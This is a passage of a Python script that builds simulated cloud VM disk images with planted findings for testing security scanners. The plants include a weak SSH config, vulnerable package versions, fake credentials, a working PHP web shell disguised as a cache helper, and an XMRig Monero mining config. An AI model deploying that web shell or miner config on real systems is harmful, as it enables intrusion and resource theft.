#!/usr/bin/env python3
"""Builds the demo tenant's OS disk images (raw disks, gzip-compressed) that AzureSim serves through disk exports.

Run through build-images.sh (it checks the tools). Needs: mkfs.ext4 (-d), mkfs.xfs (-p protofile), mkfs.vfat, mkntfs +
ntfs-3g (FUSE, to copy a tree into NTFS), sfdisk, ssh-keygen, gzip. No loop devices and no device-mapper: the LVM2
physical volume of the RHEL image (label, metadata area header, text metadata) is written by write_lvm_pv() below.

Each image is small (tens of MB, mostly holes) and shared by the VMs of one OS image; variants carry the planted
findings of agentless detection part 2 (listed in src/AzureSim/Seeds/README.md, "Disk contents").
"""
import gzip, json, os, shutil, struct, subprocess, sys, tempfile, time, uuid, zlib

OUT = os.path.dirname(os.path.abspath(__file__))
MiB = 1024 * 1024
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
assert len(EICAR) == 68
FIXED_TIME = 1725000000  # 2024-08-30, the images' "build" time
ENV = dict(os.environ, TEST_DIR="1", TEST_DEV="1", QA_CHECK_FS="1", E2FSPROGS_FAKE_TIME=str(FIXED_TIME))  # small XFS allowed


def run(*cmd, **kw):
    subprocess.run(cmd, check=True, env=ENV, stdout=subprocess.DEVNULL, **kw)


# ------------------------------------------------------------------------------------------------ source trees

class Tree:
    """A file tree to put into a file system: path -> (kind, data/target, mode, uid, gid)."""

    def __init__(self):
        self.entries = {}

    def dir(self, path, mode=0o755, uid=0, gid=0):
        parts = path.strip("/").split("/")
        for i in range(1, len(parts) + 1):
            p = "/" + "/".join(parts[:i])
            if p not in self.entries:
                self.entries[p] = ("d", None, 0o755, 0, 0)
        self.entries["/" + path.strip("/")] = ("d", None, mode, uid, gid)

    def file(self, path, data, mode=0o644, uid=0, gid=0):
        if isinstance(data, str):
            data = data.encode()
        if os.path.dirname(path) not in ("", "/"):
            self.dir(os.path.dirname(path))
        self.entries[path] = ("f", data, mode, uid, gid)

    def link(self, path, target):
        if os.path.dirname(path) not in ("", "/"):
            self.dir(os.path.dirname(path))
        self.entries[path] = ("l", target, 0o777, 0, 0)

    def materialise(self, root, chown=True):
        for p in sorted(self.entries, key=lambda x: (x.count("/"), x)):
            kind, data, mode, uid, gid = self.entries[p]
            full = os.path.join(root, p.lstrip("/"))
            if kind == "d":
                os.makedirs(full, exist_ok=True)
            elif kind == "f":
                os.makedirs(os.path.dirname(full), exist_ok=True)
                with open(full, "wb") as fh:
                    fh.write(data)
            else:
                os.symlink(data, full)
            if kind != "l":
                os.chmod(full, mode)
            if chown:
                os.lchown(full, uid, gid)
        # times last, deepest first: adding a child changes its directory's mtime
        for p in sorted(self.entries, key=lambda x: -x.count("/")):
            os.utime(os.path.join(root, p.lstrip("/")), (FIXED_TIME, FIXED_TIME), follow_symlinks=False)

    def protofile(self, path, srcroot):
        """mkfs.xfs -p prototype file for this tree (names without spaces)."""
        children = {}
        for p in self.entries:
            parent = os.path.dirname(p)
            children.setdefault(parent, []).append(p)
        lines = ["/dev/null", "0 0", "d--755 0 0"]

        def walk(d, depth):
            for p in sorted(children.get(d, [])):
                if p == d:
                    continue
                kind, data, mode, uid, gid = self.entries[p]
                name = os.path.basename(p)
                ind = " " * depth
                if kind == "d":
                    lines.append(f"{ind}{name} d--{mode:03o} {uid} {gid}")
                    walk(p, depth + 1)
                    lines.append(f"{ind}$")
                elif kind == "f":
                    lines.append(f"{ind}{name} ---{mode & 0o777:03o} {uid} {gid} {os.path.join(srcroot, p.lstrip('/'))}")
                else:
                    lines.append(f"{ind}{name} l--777 {uid} {gid} {data}")
        walk("/", 1)
        lines.append("$")
        with open(path, "w") as fh:
            fh.write("\n".join(lines) + "\n")


# ------------------------------------------------------------------------------------------------ file systems

def mk_ext4(tree, size, label, path):
    with tempfile.TemporaryDirectory() as src:
        tree.materialise(src)
        run("truncate", "-s", str(size), path)
        run("mkfs.ext4", "-q", "-F", "-L", label, "-U", str(uuid.uuid5(uuid.NAMESPACE_DNS, label + path)), "-O", "^metadata_csum_seed",
            "-E", "root_owner=0:0", "-d", src, path)


def mk_xfs(tree, size, label, path):
    with tempfile.TemporaryDirectory() as src:
        tree.materialise(src)
        proto = os.path.join(src, ".proto")
        tree.protofile(proto, src)
        run("truncate", "-s", str(size), path)
        run("mkfs.xfs", "-q", "-f", "-L", label, "-m", f"uuid={uuid.uuid5(uuid.NAMESPACE_DNS, label + path)}", "-p", proto, path)


def mk_vfat(tree, size, label, path):
    run("truncate", "-s", str(size), path)
    run("mkfs.vfat", "-n", label, path)
    # files through 7-Zip-free means: mtools is not needed, the ESP's files are few; use mcopy if present
    if tree.entries and shutil.which("mcopy"):
        with tempfile.TemporaryDirectory() as src:
            tree.materialise(src, chown=False)
            for top in os.listdir(src):
                run("mcopy", "-s", "-i", path, os.path.join(src, top), "::")


def mk_ntfs(tree, size, label, path):
    run("truncate", "-s", str(size), path)
    run("mkntfs", "-q", "-F", "-f", "-L", label, "-s", "512", "-p", "0", "-H", "0", "-S", "0", path)
    if not tree.entries:
        return
    mnt = tempfile.mkdtemp()
    try:
        run("ntfs-3g", path, mnt)
        try:
            with tempfile.TemporaryDirectory() as src:
                tree.materialise(src, chown=False)
                for top in sorted(os.listdir(src)):
                    run("cp", "-r", "--no-preserve=ownership", os.path.join(src, top), mnt)
        finally:
            run("fusermount", "-u", mnt)
    finally:
        os.rmdir(mnt)


# ------------------------------------------------------------------------------------------------ LVM2 (written directly)

def _lvm_crc(data, crc=0xF597A6CF):
    """LVM2's calc_crc: CRC-32 (reflected, poly 0xEDB88320) from LVM's initial value, no final inversion."""
    return (zlib.crc32(data, crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF) & 0xFFFFFFFF


def _lvm_uuid(seed):
    a = "".join("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#"[b % 62] for b in uuid.uuid5(uuid.NAMESPACE_DNS, seed).bytes * 2)[:32]
    return a, "-".join([a[0:6], a[6:10], a[10:14], a[14:18], a[18:22], a[22:26], a[26:32]])


def write_lvm_pv(pv_path, pv_size, vg, lvs, extent_mib=4, pe_start_mib=1, device="/dev/sda4"):
    """Makes pv_path (pv_size bytes) an LVM2 physical volume holding volume group `vg` with linear logical volumes
    `lvs` = [(name, extents, image_file)], laid out one after the other from extent 0. Layout as pvcreate makes it:
    label in sector 1, metadata area at 4 KiB (1020 KiB), first extent at 1 MiB."""
    mda_start, mda_size = 4096, pe_start_mib * MiB - 4096
    pe_start = pe_start_mib * MiB
    extent = extent_mib * MiB
    pe_count = (pv_size - pe_start) // extent
    pv_raw, pv_id = _lvm_uuid(vg + "pv0")
    _, vg_id = _lvm_uuid(vg)
    segs, at = [], 0
    for name, count, _img in lvs:
        _, lv_id = _lvm_uuid(vg + name)
        segs.append(f"""{name} {{
id = "{lv_id}"
status = ["READ", "WRITE", "VISIBLE"]
flags = []
creation_time = {FIXED_TIME}
creation_host = "localhost"
segment_count = 1

segment1 {{
start_extent = 0
extent_count = {count}

type = "striped"
stripe_count = 1

stripes = [
"pv0", {at}
]
}}
}}
""")
        at += count
    assert at <= pe_count, "logical volumes do not fit the physical volume"
    text = f"""{vg} {{
id = "{vg_id}"
seqno = 1
format = "lvm2"
status = ["RESIZEABLE", "READ", "WRITE"]
flags = []
extent_size = {extent // 512}
max_lv = 0
max_pv = 0
metadata_copies = 0

physical_volumes {{

pv0 {{
id = "{pv_id}"
device = "{device}"

status = ["ALLOCATABLE"]
flags = []
dev_size = {pv_size // 512}
pe_start = {pe_start // 512}
pe_count = {pe_count}
}}
}}

logical_volumes {{

{chr(10).join(segs)}}}

}}
# Generated by LVM2 version 2.03.16(2) (2022-05-18): {time.strftime('%a %b %d %H:%M:%S %Y', time.gmtime(FIXED_TIME))}

contents = "Text Format Volume Group"
version = 1

description = "Written by AzureSim's build_images.py (as vgcreate/lvcreate would)"

creation_host = "localhost"\t# Linux localhost 5.14.0-427.13.1.el9_4.x86_64 #1 SMP x86_64
creation_time = {FIXED_TIME}\t# {time.strftime('%a %b %d %H:%M:%S %Y', time.gmtime(FIXED_TIME))}

""".encode() + b"\0"

    run("truncate", "-s", str(pv_size), pv_path)
    with open(pv_path, "r+b") as f:
        # pv_header: uuid, device size, data areas [(pe_start, 0)], metadata areas [(4096, mda_size)], extension v2
        pvh = pv_raw.encode() + struct.pack("<Q", pv_size)
        pvh += struct.pack("<QQ", pe_start, 0) + struct.pack("<QQ", 0, 0)
        pvh += struct.pack("<QQ", mda_start, mda_size) + struct.pack("<QQ", 0, 0)
        pvh += struct.pack("<II", 2, 1) + struct.pack("<QQ", 0, 0)
        body = bytearray(512)
        body[32:32 + len(pvh)] = pvh
        body[0:8] = b"LABELONE"
        struct.pack_into("<Q", body, 8, 1)          # sector_xl
        struct.pack_into("<I", body, 20, 32)        # offset_xl
        body[24:32] = b"LVM2 001"
        struct.pack_into("<I", body, 16, _lvm_crc(bytes(body[20:512])))
        f.seek(512)
        f.write(body)
        # metadata area header + the text right after it
        mdah = bytearray(512)
        mdah[4:20] = b" LVM2 x[5A%r0N*>"
        struct.pack_into("<I", mdah, 20, 1)
        struct.pack_into("<QQ", mdah, 24, mda_start, mda_size)
        struct.pack_into("<QQII", mdah, 40, 512, len(text), _lvm_crc(text), 0)
        struct.pack_into("<I", mdah, 0, _lvm_crc(bytes(mdah[4:512])))
        f.seek(mda_start)
        f.write(mdah)
        f.seek(mda_start + 512)
        f.write(text)
        at = 0
        for name, count, img in lvs:
            splice(f, pe_start + at * extent, img, count * extent)
            at += count


# ------------------------------------------------------------------------------------------------ disks

def splice(f, offset, img, limit):
    """Copies a partition image into the disk at offset, leaving zero blocks as holes."""
    size = os.path.getsize(img)
    assert size <= limit, f"{img} ({size}) does not fit {limit}"
    with open(img, "rb") as src:
        pos = 0
        while True:
            b = src.read(MiB)
            if not b:
                break
            if b.strip(b"\0"):
                f.seek(offset + pos)
                f.write(b)
            pos += len(b)


def build_disk(name, label, parts, size):
    """parts: [(start_mib, size_mib, sfdisk_type, gpt_name or None, image file or None[, partition number])]."""
    path = os.path.join(WORK, name + ".img")
    if os.path.exists(path):
        os.remove(path)
    run("truncate", "-s", str(size), path)
    lines = [f"label: {label}", "unit: sectors"]
    if label == "gpt":
        lines.append(f"label-id: {uuid.uuid5(uuid.NAMESPACE_DNS, name)}")
    else:
        lines.append(f"label-id: 0x{uuid.uuid5(uuid.NAMESPACE_DNS, name).hex[:8]}")
    for i, (start, sz, typ, pname, _img, *num) in enumerate(parts):
        line = f"{path}{num[0] if num else i + 1} : start={start * 2048}, size={sz * 2048}, type={typ}"
        if label == "gpt":
            line += f", uuid={uuid.uuid5(uuid.NAMESPACE_DNS, name + str(start))}"
            if pname:
                line += f', name="{pname}"'
        elif pname == "boot":
            line += ", bootable"
        lines.append(line)
    subprocess.run(["sfdisk", "-q", "--no-reread", "--no-tell-kernel", path], input="\n".join(lines) + "\n", text=True, check=True, env=ENV, stdout=subprocess.DEVNULL)
    with open(path, "r+b") as f:
        for start, sz, _t, _n, img, *_ in parts:
            if img:
                splice(f, start * MiB, img, sz * MiB)
    gz = os.path.join(OUT, name + ".img.gz")
    with open(path, "rb") as src, open(gz, "wb") as raw:
        with gzip.GzipFile(filename=name + ".img", mode="wb", fileobj=raw, compresslevel=9, mtime=FIXED_TIME) as dst:
            shutil.copyfileobj(src, dst, MiB)
    print(f"{name}.img.gz: {size // MiB} MiB disk, {os.path.getsize(gz) // 1024} KiB compressed")


ESP = "C12A7328-F81F-11D2-BA4B-00A0C93EC93B"
BIOS = "21686148-6449-6E6F-744E-656564454649"
LINUX = "0FC63DAF-8483-4772-8E79-3D69C8477DE4"
LVM = "E6D6D379-F507-44C2-A23C-238F2A3DF928"


def esp_tree(vendor):
    t = Tree()
    t.file(f"/EFI/BOOT/BOOTX64.EFI", b"MZ" + b"\0" * 510 + f"shim for {vendor}".encode())
    t.file(f"/EFI/{vendor}/grub.cfg", f"search.fs_uuid root\nset prefix=($root)'/boot/grub'\nconfigfile $prefix/grub.cfg\n")
    return t


# ------------------------------------------------------------------------------------------------ Linux content

def dpkg_entry(pkg, source, version, arch="amd64", section="admin", desc="", maint="Ubuntu Developers <ubuntu-devel-discuss@lists.ubuntu.com>", size=1000):
    src = f"Source: {source}\n" if source and source != pkg else ""
    srcv = ""
    # dpkg writes "Source: name (version)" when the source version differs from the binary's; keep it simple: same version
    return (f"Package: {pkg}\nStatus: install ok installed\nPriority: optional\nSection: {section}\nInstalled-Size: {size}\n"
            f"Maintainer: {maint}\nArchitecture: {arch}\n{src}{srcv}Version: {version}\nDescription: {desc}\n")


def linux_base(distro, hostname):
    """distro: ubuntu2204 | ubuntu2004 | debian12 | rhel9"""
    t = Tree()
    for d in ["bin", "sbin", "lib", "lib64"]:
        t.link(f"/{d}", f"usr/{d}")
    for d in ["/usr/bin", "/usr/sbin", "/usr/lib", "/usr/lib64", "/usr/share/doc", "/etc/ssh/sshd_config.d", "/var/log", "/var/tmp", "/tmp",
              "/root", "/home", "/boot", "/opt", "/srv", "/mnt", "/proc", "/sys", "/dev", "/run"]:
        t.dir(d)
    t.dir("/tmp", 0o1777)
    t.dir("/var/tmp", 0o1777)
    t.dir("/root", 0o700)
    osr = {
        "ubuntu2204": 'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\nVERSION="22.04.4 LTS (Jammy Jellyfish)"\nVERSION_CODENAME=jammy\nID=ubuntu\nID_LIKE=debian\nHOME_URL="https://www.ubuntu.com/"\nSUPPORT_URL="https://help.ubuntu.com/"\nBUG_REPORT_URL="https://bugs.launchpad.net/ubuntu/"\nPRIVACY_POLICY_URL="https://www.ubuntu.com/legal/terms-and-policies/privacy-policy"\nUBUNTU_CODENAME=jammy\n',
        "ubuntu2004": 'NAME="Ubuntu"\nVERSION="20.04.6 LTS (Focal Fossa)"\nID=ubuntu\nID_LIKE=debian\nPRETTY_NAME="Ubuntu 20.04.6 LTS"\nVERSION_ID="20.04"\nHOME_URL="https://www.ubuntu.com/"\nSUPPORT_URL="https://help.ubuntu.com/"\nBUG_REPORT_URL="https://bugs.launchpad.net/ubuntu/"\nPRIVACY_POLICY_URL="https://www.ubuntu.com/legal/terms-and-policies/privacy-policy"\nVERSION_CODENAME=focal\nUBUNTU_CODENAME=focal\n',
        "debian12": 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nVERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\nHOME_URL="https://www.debian.org/"\nSUPPORT_URL="https://www.debian.org/support"\nBUG_REPORT_URL="https://bugs.debian.org/"\n',
        "rhel9": 'NAME="Red Hat Enterprise Linux"\nVERSION="9.4 (Plow)"\nID="rhel"\nID_LIKE="fedora"\nVERSION_ID="9.4"\nPLATFORM_ID="platform:el9"\nPRETTY_NAME="Red Hat Enterprise Linux 9.4 (Plow)"\nANSI_COLOR="0;31"\nLOGO="fedora-logo-icon"\nCPE_NAME="cpe:/o:redhat:enterprise_linux:9::baseos"\nHOME_URL="https://www.redhat.com/"\nDOCUMENTATION_URL="https://access.redhat.com/documentation/en-us/red_hat_enterprise_linux/9"\nBUG_REPORT_URL="https://bugzilla.redhat.com/"\nREDHAT_SUPPORT_PRODUCT="Red Hat Enterprise Linux 9"\nREDHAT_SUPPORT_PRODUCT_VERSION="9.4"\n',
    }[distro]
    t.file("/usr/lib/os-release", osr)
    t.link("/etc/os-release", "../usr/lib/os-release")
    t.file("/etc/hostname", hostname + "\n")
    t.file("/etc/hosts", f"127.0.0.1 localhost\n127.0.1.1 {hostname}\n\n# The following lines are desirable for IPv6 capable hosts\n::1 ip6-localhost ip6-loopback\n")
    t.file("/etc/resolv.conf", "nameserver 168.63.129.16\nsearch reddog.microsoft.com\n")
    t.file("/etc/waagent.conf", "Provisioning.Agent=auto\nResourceDisk.Format=n\nResourceDisk.EnableSwap=n\nLogs.Verbose=n\nOS.EnableFirewall=y\n")
    t.file("/var/log/waagent.log", "2024-08-30T06:40:00.000000Z INFO Daemon Azure Linux Agent Version: 2.11.1.12\n")
    admin = "azureuser"
    shell = "/bin/bash"
    passwd = [f"root:x:0:0:root:/root:{shell}", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin", "bin:x:2:2:bin:/bin:/usr/sbin/nologin",
              "sys:x:3:3:sys:/dev:/usr/sbin/nologin", "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin",
              "sshd:x:105:65534::/run/sshd:/usr/sbin/nologin", f"{admin}:x:1000:1000:Azure User:/home/{admin}:{shell}"]
    shadow = ["root:*:19800:0:99999:7:::", "daemon:*:19800:0:99999:7:::", "bin:*:19800:0:99999:7:::", "sys:*:19800:0:99999:7:::",
              "nobody:*:19800:0:99999:7:::", "sshd:*:19800:0:99999:7:::", f"{admin}:!:19965:0:99999:7:::"]
    group = ["root:x:0:", "adm:x:4:syslog,azureuser", "sudo:x:27:azureuser", "shadow:x:42:", "nogroup:x:65534:", f"{admin}:x:1000:"]
    if distro == "rhel9":
        group = ["root:x:0:", "wheel:x:10:azureuser", "nobody:x:65534:", f"{admin}:x:1000:"]
    t.file("/etc/passwd", "\n".join(passwd) + "\n")
    t.file("/etc/group", "\n".join(group) + "\n")
    t.file("/etc/shadow", "\n".join(shadow) + "\n", mode=0o640, gid=42 if distro != "rhel9" else 0)
    t.file("/etc/sudoers", "Defaults\tenv_reset\nDefaults\tsecure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nroot\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", mode=0o440)
    t.file("/etc/sudoers.d/90-cloud-init-users", f"# Created by cloud-init v. 23.4 on Fri, 30 Aug 2024 06:40:00 +0000\n{admin} ALL=(ALL) NOPASSWD:ALL\n", mode=0o440)
    t.file("/etc/ssh/sshd_config", SSHD_GOOD)
    t.file("/etc/ssh/sshd_config.d/50-cloudimg-settings.conf", "ClientAliveInterval 120\nPasswordAuthentication no\n")
    t.file("/etc/fstab", {"rhel9": "/dev/mapper/rootvg-rootlv /     xfs defaults 0 0\nUUID=boot /boot xfs defaults 0 0\nUUID=esp  /boot/efi vfat defaults,uid=0,gid=0,umask=077,shortname=winnt 0 2\n/dev/mapper/rootvg-homelv /home xfs defaults 0 0\n"}.get(distro, "LABEL=cloudimg-rootfs\t/\t ext4\tdiscard,errors=remount-ro\t0 1\nLABEL=UEFI\t/boot/efi\tvfat\tumask=0077\t0 1\n"))
    t.dir(f"/home/{admin}", 0o750, 1000, 1000)
    t.file(f"/home/{admin}/.bashrc", "# ~/.bashrc: executed by bash(1) for non-login shells.\ncase $- in *i*) ;; *) return;; esac\nHISTCONTROL=ignoreboth\nalias ll='ls -alF'\n", uid=1000, gid=1000)
    t.file(f"/home/{admin}/.profile", "if [ -n \"$BASH_VERSION\" ]; then . \"$HOME/.bashrc\"; fi\n", uid=1000, gid=1000)
    t.dir(f"/home/{admin}/.ssh", 0o700, 1000, 1000)
    t.file(f"/home/{admin}/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFabrikamDemoAuthorizedKeyNotARealKeyxxxxxxxx ops@fabrikam\n", mode=0o600, uid=1000, gid=1000)
    t.file("/root/.bashrc", "# ~/.bashrc\n")
    t.file("/usr/bin/bash", b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"demo bash binary stand-in\n", mode=0o755)
    t.file("/usr/bin/ls", b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"demo ls binary stand-in\n", mode=0o755)
    t.link("/usr/bin/sh", "bash" if distro == "rhel9" else "dash")
    t.file("/usr/sbin/sshd", b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"OpenSSH daemon stand-in\n", mode=0o755)
    t.file("/var/log/auth.log" if distro != "rhel9" else "/var/log/secure",
           f"Aug 30 06:41:02 {hostname} sshd[1022]: Server listening on 0.0.0.0 port 22.\nAug 30 06:45:10 {hostname} sshd[1201]: Accepted publickey for {admin} from 10.10.4.5 port 50122 ssh2: ED25519 SHA256:demo\n",
           mode=0o640)
    if distro == "rhel9":
        t.file("/etc/redhat-release", "Red Hat Enterprise Linux release 9.4 (Plow)\n")
        t.link("/etc/system-release", "redhat-release")
        t.dir("/var/lib/rpm")
        t.file("/etc/yum.repos.d/rh-cloud.repo", "[rhui-rhel-9-for-x86_64-baseos-rhui-rpms]\nname=Red Hat Enterprise Linux 9 for x86_64 - BaseOS from RHUI (RPMs)\nbaseurl=https://rhui4-1.microsoft.com/pulp/repos/content/dist/rhel9/rhui/$releasever/x86_64/baseos/os\nenabled=1\ngpgcheck=1\n")
    else:
        t.file("/etc/debian_version", {"ubuntu2204": "bookworm/sid\n", "ubuntu2004": "bullseye/sid\n", "debian12": "12.7\n"}[distro])
        if distro.startswith("ubuntu"):
            ver = {"ubuntu2204": ("22.04", "jammy", "Ubuntu 22.04.4 LTS"), "ubuntu2004": ("20.04", "focal", "Ubuntu 20.04.6 LTS")}[distro]
            t.file("/etc/lsb-release", f"DISTRIB_ID=Ubuntu\nDISTRIB_RELEASE={ver[0]}\nDISTRIB_CODENAME={ver[1]}\nDISTRIB_DESCRIPTION=\"{ver[2]}\"\n")
        t.dir("/var/lib/dpkg/info")
        t.file("/var/lib/dpkg/status", dpkg_status(distro, vulnerable=False))
    return t


SSHD_GOOD = """# This is the sshd server system-wide configuration file.  See sshd_config(5) for more information.
Include /etc/ssh/sshd_config.d/*.conf
#Port 22
#PermitRootLogin prohibit-password
PubkeyAuthentication yes
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding no
PrintMotd no
AcceptEnv LANG LC_*
Subsystem\tsftp\t/usr/lib/openssh/sftp-server
"""

SSHD_WEAK = """# sshd_config changed by the dev team to let contractors in (ticket DEV-1142)
Include /etc/ssh/sshd_config.d/*.conf
Port 22
PermitRootLogin yes
PubkeyAuthentication yes
PasswordAuthentication yes
PermitEmptyPasswords no
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding yes
AcceptEnv LANG LC_*
Subsystem\tsftp\t/usr/lib/openssh/sftp-server
"""

# (package, source, fixed version, vulnerable version, section, description); the vulnerable versions predate the
# distributions' fixes of CVE-2024-6387 (regreSSHion, openssh), CVE-2023-0286/CVE-2023-5678 (openssl) and CVE-2023-22809 (sudo)
PKGS = {
    "ubuntu2204": [
        ("base-files", None, "12ubuntu4.6", None, "admin", "Debian base system miscellaneous files"),
        ("bash", None, "5.1-6ubuntu1.1", None, "shells", "GNU Bourne Again SHell"),
        ("coreutils", None, "8.32-4.1ubuntu1.2", None, "utils", "GNU core utilities"),
        ("openssh-server", "openssh", "1:8.9p1-3ubuntu0.10", "1:8.9p1-3ubuntu0.1", "net", "secure shell (SSH) server, for secure access from remote machines"),
        ("openssh-client", "openssh", "1:8.9p1-3ubuntu0.10", "1:8.9p1-3ubuntu0.1", "net", "secure shell (SSH) client, for secure access to remote machines"),
        ("openssl", None, "3.0.2-0ubuntu1.18", "3.0.2-0ubuntu1.7", "utils", "Secure Sockets Layer toolkit - cryptographic utility"),
        ("libssl3", "openssl", "3.0.2-0ubuntu1.18", "3.0.2-0ubuntu1.7", "libs", "Secure Sockets Layer toolkit - shared libraries"),
        ("sudo", None, "1.9.9-1ubuntu2.4", "1.9.9-1ubuntu2", "admin", "Provide limited super user privileges to specific users"),
        ("walinuxagent", None, "2.2.46-0ubuntu5.1", None, "admin", "Windows Azure Linux Agent"),
        ("nginx", None, "1.18.0-6ubuntu14.4", None, "httpd", "small, powerful, scalable web/proxy server"),
    ],
    "ubuntu2004": [
        ("base-files", None, "11ubuntu5.8", None, "admin", "Debian base system miscellaneous files"),
        ("bash", None, "5.0-6ubuntu1.2", None, "shells", "GNU Bourne Again SHell"),
        ("openssh-server", "openssh", "1:8.2p1-4ubuntu0.11", None, "net", "secure shell (SSH) server, for secure access from remote machines"),
        ("openssl", None, "1.1.1f-1ubuntu2.23", None, "utils", "Secure Sockets Layer toolkit - cryptographic utility"),
        ("libssl1.1", "openssl", "1.1.1f-1ubuntu2.23", None, "libs", "Secure Sockets Layer toolkit - shared libraries"),
        ("sudo", None, "1.8.31-1ubuntu1.5", None, "admin", "Provide limited super user privileges to specific users"),
        ("mongodb-org-server", "mongodb-org", "6.0.16", None, "database", "MongoDB database server"),
    ],
    "debian12": [
        ("base-files", None, "12.4+deb12u7", None, "admin", "Debian base system miscellaneous files"),
        ("bash", None, "5.2.15-2+b7", None, "shells", "GNU Bourne Again SHell"),
        ("openssh-server", "openssh", "1:9.2p1-2+deb12u3", None, "net", "secure shell (SSH) server, for secure access from remote machines"),
        ("openssl", None, "3.0.14-1~deb12u2", None, "utils", "Secure Sockets Layer toolkit - cryptographic utility"),
        ("libssl3", "openssl", "3.0.14-1~deb12u2", None, "libs", "Secure Sockets Layer toolkit - shared libraries"),
        ("sudo", None, "1.9.13p3-1+deb12u1", None, "admin", "Provide limited super user privileges to specific users"),
        ("nginx", None, "1.22.1-9", None, "httpd", "small, powerful, scalable web/proxy server"),
    ],
}


def dpkg_status(distro, vulnerable):
    maint = "Debian OpenSSH Maintainers <debian-ssh@lists.debian.org>" if distro == "debian12" else "Ubuntu Developers <ubuntu-devel-discuss@lists.ubuntu.com>"
    out = []
    for pkg, src, fixed, vuln, section, desc in PKGS[distro]:
        ver = vuln if (vulnerable and vuln) else fixed
        out.append(dpkg_entry(pkg, src, ver, section=section, desc=desc, maint=maint))
    return "\n".join(out)


def ssh_private_key(comment):
    with tempfile.TemporaryDirectory() as d:
        k = os.path.join(d, "id_ed25519")
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", k)
        return open(k, "rb").read(), open(k + ".pub", "rb").read()


FAKE_STORAGE_KEY = "Zm9yLWRlbW8tb25seS1ub3QtYS1yZWFsLWtleS1mYWJyaWthbS1kZW1vLXRlbmFudC0wMDE5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OT09=="

KUBECONFIG = """apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCkRFTU8tT05MWQotLS0tLUVORCBDRVJUSUZJQ0FURS0tLS0tCg==
    server: https://aks-fabrikam-prod-dns-4f9d2c1a.hcp.eastus.azmk8s.io:443
  name: aks-fabrikam-prod
contexts:
- context:
    cluster: aks-fabrikam-prod
    user: clusterUser_rg-prod-aks_aks-fabrikam-prod
  name: aks-fabrikam-prod
current-context: aks-fabrikam-prod
users:
- name: clusterUser_rg-prod-aks_aks-fabrikam-prod
  user:
    token: eyJhbGciOiJSUzI1NiIsImtpZCI6ImZhYnJpa2FtLWRlbW8ifQ.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwic3ViIjoic3lzdGVtOnNlcnZpY2VhY2NvdW50Omt1YmUtc3lzdGVtOmRlcGxveWVyIn0.ZGVtby1vbmx5LXNpZ25hdHVyZS1ub3QtcmVhbA
"""

WEB_SHELL = """<?php
// wp-cache helper
if (isset($_REQUEST['c'])) { echo '<pre>'; system($_REQUEST['c']); echo '</pre>'; }
if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], basename($_FILES['f']['name'])); }
@eval(base64_decode($_POST['x'] ?? ''));
?>
"""

XMRIG = {
    "autosave": True, "background": True, "colors": False, "donate-level": 1,
    "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 75, "priority": 0},
    "opencl": False, "cuda": False,
    "pools": [{"algo": "rx/0", "coin": "monero", "url": "pool.supportxmr.com:443", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "pass": "web-eus-01", "tls": True, "keepalive": True}],
    "print-time": 60, "retries": 5, "retry-pause": 5, "syslog": False, "user-agent": None, "watch": True,
}


# ------------------------------------------------------------------------------------------------ images

def linux_disk(name, distro, tree):
    """Ubuntu: GPT (root p1 ext4, BIOS boot p14, ESP p15, Azure's cloud image layout); Debian: MBR with one ext4 root;
    RHEL 9: GPT (ESP, /boot XFS, BIOS boot, LVM PV with rootvg/rootlv (/) and rootvg/homelv (/home), both XFS)."""
    if distro.startswith("ubuntu"):
        root, esp = os.path.join(WORK, name + "-root.ext4"), os.path.join(WORK, name + "-esp.vfat")
        mk_ext4(tree, 52 * MiB, "cloudimg-rootfs", root)
        mk_vfat(esp_tree("ubuntu"), 8 * MiB, "UEFI", esp)
        build_disk(name, "gpt", [(13, 52, LINUX, None, root, 1), (1, 4, BIOS, None, None, 14), (5, 8, ESP, None, esp, 15)], 66 * MiB)
    elif distro == "debian12":
        root = os.path.join(WORK, name + "-root.ext4")
        mk_ext4(tree, 60 * MiB, "debian-root", root)
        build_disk(name, "dos", [(1, 60, "83", "boot", root)], 62 * MiB)
    else:
        boot_tree, home_tree, root_tree = Tree(), Tree(), Tree()
        for p, e in tree.entries.items():
            if p.startswith("/boot/"):
                boot_tree.entries["/" + p[len("/boot/"):]] = e
            elif p.startswith("/home/"):
                home_tree.entries["/" + p[len("/home/"):]] = e
            else:
                root_tree.entries[p] = e
        boot_tree.entries = {k: v for k, v in boot_tree.entries.items() if k != "/"}
        home_tree.entries = {k: v for k, v in home_tree.entries.items() if k != "/"}
        esp, boot, rootlv, homelv, pv = (os.path.join(WORK, name + s) for s in ("-esp.vfat", "-boot.xfs", "-rootlv.xfs", "-homelv.xfs", "-pv.lvm"))
